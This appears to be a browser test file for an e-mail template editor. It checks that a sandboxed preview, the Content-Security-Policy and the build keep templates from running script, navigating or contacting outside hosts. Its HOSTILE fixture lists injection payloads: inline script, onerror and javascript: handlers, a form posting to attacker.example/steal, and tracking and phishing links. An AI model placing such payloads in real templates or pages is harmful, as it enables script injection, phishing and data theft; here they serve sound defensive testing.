// Hostile input and the network (issue #9): templates that try to run script,
// navigate, submit, fetch or hide the UI run nothing and reach nothing; a
// whole session (edit, preview, export, import, mail merge) requests nothing
// but the page's own files; the page carries its Content-Security-Policy and
// no inline script; runaway templates stop while the page goes on.
import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';

import { appSuite, DIST, RUNAWAYS, waitForTextContaining } from './harness.mjs';

const suite = appSuite();

/**
 * Every URL that `context` (its pages, frames and workers) sends to the
 * network, as the network sees it: a request the policy refuses never gets
 * here (DevTools still reports it as a request, blocked).
 */
async function recordRequests(context) {
  const urls = [];
  await context.route('**/*', (route) => {
    const url = route.request().url();
    urls.push(url);
    return url.startsWith(suite.url) ? route.continue() : route.abort();
  });
  return urls;
}

// The service worker answers the page from its cache, out of the recording's
// sight, and fetches only the release's own files (scripts/offline.py lists
// them): the recorded contexts run without it, so every request shows.
const RECORDED = { serviceWorkers: 'block' };

/** The requests that are not for the page's own files. */
function foreign(urls) {
  return urls.filter((url) => !url.startsWith(suite.url) && !/^(blob|data|about):/.test(url));
}

/** The browser refusing what the policy and the sandbox forbid is expected; anything else is not. */
function unexpected(errors) {
  return errors.filter((e) => !/Content Security Policy|sandboxed|Blocked script execution|Blocked form submission|Not allowed to navigate/i.test(e));
}

const HOSTILE = [
  '<html><head>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/refresh">',
  '<style>html, body { display: none !important } .app-header { display: none !important }</style>',
  '<link rel="stylesheet" href="https://attacker.example/style.css">',
  '</head><body>',
  '<p>尊敬的{{ customer.name }}：</p>',
  '<script>parent.__pwned = "script"; top.document.body.remove();</script>',
  '<img src="data:image/png;base64,AAAA" onerror="parent.__pwned = \'onerror\'">',
  '<img src="https://tracker.example/open.gif?who={{ customer.name }}">',
  '<a id="evil" href="javascript:parent.__pwned = \'link\'">查看详情</a>',
  '<a id="away" href="https://attacker.example/phish" target="_top">登录</a>',
  '<form action="https://attacker.example/steal" method="post"><input name="q" value="x"><button id="send">提交</button></form>',
  '<iframe src="https://attacker.example/frame"></iframe>',
  '<object data="https://attacker.example/plugin.swf"></object>',
  '</body></html>',
].join('\n');

test('a hostile e-mail template runs nothing, fetches nothing and leaves the page as it was', async () => {
  const { context, page, errors } = await suite.freshApp('?lang=en', RECORDED);
  const urls = await recordRequests(context);
  await page.getByTestId('new-template').click();
  await page.getByRole('textbox', { name: 'Body', exact: true }).fill(HOSTILE);
  const frame = page.getByTestId('preview-html');
  await frame.waitFor();
  const preview = page.frameLocator('[data-testid="preview-html"]');
  await preview.locator('#evil').waitFor({ state: 'attached' });
  // The refresh had its chance to navigate; clicks on the links and the form go nowhere.
  await page.waitForTimeout(1200);
  for (const id of ['#evil', '#away', '#send']) await preview.locator(id).click({ force: true, timeout: 2000 }).catch(() => {});
  await page.waitForTimeout(500);

  assert.equal(await page.evaluate(() => window.__pwned), undefined, 'no script of the template ran in the app');
  const child = page.frames().find((f) => f !== page.mainFrame());
  assert.equal(child.url(), 'about:srcdoc', 'the preview frame did not navigate');
  assert.equal(page.url().startsWith(suite.url), true, 'the app did not navigate');
  // The template's CSS stays in its frame: the app is whole and visible.
  assert.equal(await page.getByTestId('template-body').isVisible(), true);
  assert.equal(await page.locator('.app-header').isVisible(), true);
  assert.notEqual(await page.evaluate(() => getComputedStyle(document.body).display), 'none');
  // The reader's text is shown beside the frame, as text.
  await waitForTextContaining(page, 'preview', '查看详情');
  assert.deepEqual(foreign(urls), [], 'nothing was requested from anywhere else');
  assert.deepEqual(unexpected(errors), []);
  await context.close();
});

test('the page and the merge page carry the policy and no inline script', async () => {
  for (const file of ['index.html', 'merge/index.html']) {
    const html = await fs.readFile(path.join(DIST, file), 'utf8');
    const policy = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/)?.[1];
    assert.ok(policy, `${file} has a policy`);
    for (const directive of ["default-src 'none'", "script-src 'self' 'wasm-unsafe-eval'", "object-src 'none'", "frame-src 'none'", "base-uri 'none'"]) {
      assert.ok(policy.includes(directive), `${file}: ${directive}`);
    }
    assert.ok(!policy.includes("'unsafe-eval'") && !/script-src[^;]*'unsafe-inline'/.test(policy), `${file}: no eval, no inline script`);
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
    assert.ok(scripts.length > 0);
    for (const [, attributes, body] of scripts) {
      assert.match(attributes, /\bsrc=/, `${file}: every script is a file`);
      assert.equal(body.trim(), '', `${file}: no inline script`);
    }
  }
});

test('a whole session (edit, preview, export, import, mail merge) requests nothing but the page\'s own files', async () => {
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'notice-offline-'));
  const { context, page, errors } = await suite.freshApp('?lang=en', RECORDED);
  const urls = await recordRequests(context);
  await page.getByTestId('new-template').click();
  await page.getByTestId('name').fill('续费提醒');
  await page.getByRole('textbox', { name: 'Body', exact: true }).fill(
    '<p>尊敬的{{ customer.name }}：您的服务将于下月到期，请登录 https://www.xinghe.example.com 续费。</p><img src="https://cdn.example.com/logo.png">',
  );
  await page.getByTestId('preview-html').waitFor();
  await page.waitForTimeout(700); // stored after the 500 ms pause

  await page.getByTestId('export').click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Library bundle (.json)' }).click()]);
  const bundle = path.join(dir, download.suggestedFilename());
  await download.saveAs(bundle);

  const other = await suite.freshApp('?lang=en', RECORDED);
  const otherUrls = await recordRequests(other.context);
  await other.page.getByTestId('import').click();
  await other.page.getByTestId('import-files').setInputFiles(bundle);
  await other.page.getByTestId('confirm-import').click();
  await waitForTextContaining(other.page, 'transfer-status', 'Imported');
  assert.deepEqual(foreign(otherUrls), []);
  assert.deepEqual(unexpected(other.errors), []);
  await other.context.close();

  await page.getByTestId('mail-merge').click();
  await page.getByTestId('merge-file').waitFor({ state: 'attached' });
  await page.getByTestId('merge-template').selectOption({ label: '续费提醒 · E-mail' });
  await page.getByTestId('merge-file').setInputFiles({ name: 'list.csv', mimeType: 'text/csv', buffer: Buffer.from('姓名\n张伟\n李娜\n') });
  await page.getByTestId('mapping').waitFor();
  await page.getByTestId('merge-start').click();
  await waitForTextContaining(page, 'merge-status', 'The merge is done.');
  await Promise.all([page.waitForEvent('download'), page.getByTestId('merge-download').click()]);

  assert.ok(urls.some((u) => u.endsWith('.wasm')), 'the recording saw the page load its modules');
  assert.deepEqual(foreign(urls), [], 'nothing was requested from anywhere else');
  // The remote image was refused by the policy, not fetched.
  assert.ok(errors.some((e) => /Content Security Policy/.test(e) && e.includes('cdn.example.com')), errors.join('\n'));
  assert.deepEqual(unexpected(errors), []);
  await context.close();
});

test('the release build cannot be made to panic the way the crash-test build can', async () => {
  const { context, page, errors } = await suite.freshApp();
  await page.getByTestId('new-template').click();
  await page.getByTestId('name').fill('续费 panic!!');
  await page.waitForTimeout(300);
  assert.equal(await page.getByRole('alertdialog').count(), 0);
  assert.equal(await page.getByTestId('name').inputValue(), '续费 panic!!');
  assert.deepEqual(errors, []);
  await context.close();
});

test('runaway templates stop with render-limit while the page stays responsive', async () => {
  const { context, page, errors } = await suite.freshApp();
  await page.getByTestId('new-template').click();
  // Long tasks (over 50 ms) on the page's thread while the worker deals with them.
  await page.evaluate(() => {
    window.__longest = 0;
    new PerformanceObserver((list) => list.getEntries().forEach((e) => (window.__longest = Math.max(window.__longest, e.duration))))
      .observe({ type: 'longtask' });
  });
  const body = page.getByRole('textbox', { name: 'Body', exact: true });
  for (const [what, template, message] of RUNAWAYS) {
    await body.fill(template);
    // Typing goes on meanwhile.
    await page.getByTestId('name').fill(`still typing: ${what}`);
    assert.equal(await page.getByTestId('name').inputValue(), `still typing: ${what}`);
    await waitForTextContaining(page, 'preview-error', message);
    await page.getByTestId('diagnostics').locator('[data-rule="render-limit"]').first().waitFor();
  }
  await body.fill('back to {{ "normal" }}');
  await waitForTextContaining(page, 'preview', 'back to normal');
  // A runaway on the page's own thread would block it for seconds.
  const longest = await page.evaluate(() => window.__longest);
  assert.ok(longest < 250, `the page's thread was blocked for ${longest} ms`);
  assert.deepEqual(errors, []);
  await context.close();
});
